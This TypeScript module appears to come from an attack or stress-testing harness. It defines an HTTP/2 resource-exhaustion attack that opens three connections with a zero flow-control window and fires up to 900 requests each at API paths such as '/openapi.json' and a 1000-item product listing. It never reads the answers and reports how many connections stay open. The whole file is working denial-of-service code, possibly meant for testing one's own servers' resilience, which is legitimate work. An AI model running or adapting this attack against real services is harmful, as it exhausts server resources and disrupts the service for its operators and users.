import { type Attack, openSession, over } from "../attack.ts";

/** Three connections of HTTP/2 with as many requests as they may have, whose answers are never read. */
export const unreadStreams: Attack = async (target, signal) => {
  const sessions = Array.from({ length: 3 }, () => openSession(target, { initialWindowSize: 0 }));
  let asked = 0;
  for (const session of sessions) {
    for (let n = 0; n < 900 && !session.destroyed; n++) {
      const path = n % 2 === 0 ? "/openapi.json" : "/v1/products?pageSize=1000";
      session.request({ ":path": path }).on("error", () => {});
      asked++;
    }
  }
  await over(signal);
  const open = sessions.filter(({ destroyed }) => !destroyed).length;
  for (const session of sessions) {
    session.destroy();
  }
  return `${asked} requests on 3 connections, of which ${open} are still open`;
};
